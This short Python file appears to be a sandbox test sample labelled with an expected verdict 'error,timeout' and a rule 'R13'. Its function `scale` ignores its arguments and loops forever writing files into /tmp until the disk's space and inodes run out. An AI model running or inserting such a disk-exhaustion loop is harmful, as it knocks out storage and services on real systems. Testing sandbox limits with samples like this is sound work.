"""Verdict: error,timeout. R13: as many inodes as the disk gives."""


def scale(x, factor):
    n = 0
    while True:
        n += 1
        with open(f"/tmp/{n}", "w") as stream:
            stream.write("x" * 4096)
